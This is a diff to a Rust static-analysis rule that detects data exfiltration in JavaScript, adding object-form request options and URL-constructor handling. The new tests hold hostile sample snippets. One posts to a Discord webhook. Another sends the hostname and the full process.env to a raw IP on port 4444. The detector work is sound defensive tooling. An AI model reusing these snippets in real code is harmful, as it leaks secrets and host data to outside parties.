@@ -131,15 +131,11 @@ impl FileRule for ExfilSink {
         for call in file
             .calls
             .iter()
-            .filter(|c| sinks::is_network(&c.callee) || sinks::is_exec(&c.callee))
+            .filter(|c| sinks::is_network(&c.callee) || sinks::is_exec(&c.callee) || is_url_constructor(c))
         {
             for host in sinks::call_hosts(call) {
-                let text = call
-                    .args
-                    .iter()
-                    .filter_map(sinks::value_text)
-                    .collect::<Vec<_>>()
-                    .join(" ");
+                // Object-form options count too: `{ hostname: 'discord.com', path: '/api/webhooks/…' }`.
+                let text = call.args.iter().filter_map(arg_text).collect::<Vec<_>>().join(" ");
                 if let Some(label) = sinks::exfil_service(&host, &text) {
                     consider(
                         &mut best,
@@ -200,6 +196,23 @@ impl FileRule for ExfilSink {
                 Some(&evidence),
             ));
         }
+    }
+}
+
+/// `new URL('https://…')`: the address handed to a request later.
+fn is_url_constructor(call: &Call) -> bool {
+    call.is_new && matches!(sinks::normalize(&call.callee), "URL" | "url.URL")
+}
+
+/// The known text of an argument, object-form request options included (their string values
+/// joined: host, path, url).
+fn arg_text(value: &Value) -> Option<String> {
+    match value {
+        Value::Object { entries } => {
+            let parts: Vec<String> = entries.iter().filter_map(|(_, v)| arg_text(v)).collect();
+            (!parts.is_empty()).then(|| parts.join(" "))
+        }
+        other => sinks::value_text(other),
     }
 }
 
@@ -295,6 +308,26 @@ mod tests {
         assert_eq!(findings.len(), 1, "{findings:?}");
         assert_eq!(findings[0].severity, Severity::High);
         assert_eq!(findings[0].line, Some(2));
+    }
+
+    #[test]
+    fn object_form_and_url_webhooks_are_high() {
+        let source = "const https = require('https');\nconst req = https.request({ hostname: 'discord.com', path: '/api/webhooks/12345678/AbCdEfGhIjKlMnOpQrStUvWxYz-0123', method: 'POST' });\nreq.end('{}');";
+        assert_eq!(worst(source), Severity::High);
+        let source = "const https = require('https');\nconst u = new URL('/api/webhooks/1234567/AbCdEfGhIjKlMnOpQrStUvWxYz', 'https://discordapp.com');\nhttps.request(u, { method: 'POST' }).end('{}');";
+        assert_eq!(worst(source), Severity::High);
+        // A Discord client taking the webhook from its caller stays quiet.
+        let source = "const https = require('https');\nmodule.exports = (path) => https.request({ hostname: 'discord.com', path, method: 'POST' });";
+        assert!(run(source).is_empty());
+        let source = "const https = require('https');\nmodule.exports = () => https.request({ hostname: 'discord.com', path: '/api/v10/gateway' });";
+        assert!(run(source).is_empty());
+    }
+
+    #[test]
+    fn object_form_raw_ip_with_collected_data_is_critical() {
+        let source = "const http = require('http');\nconst os = require('os');\nconst port = 4444;\nconst r = http.request({ host: '45.61.139.10', port, method: 'POST' });\nr.end(JSON.stringify({ h: os.hostname(), e: process.env }));";
+        assert_eq!(worst(source), Severity::Critical);
+        assert!(run("const http = require('http');\nhttp.request({ host: '10.0.0.2', port: 80 });").is_empty());
     }
 
     #[test]
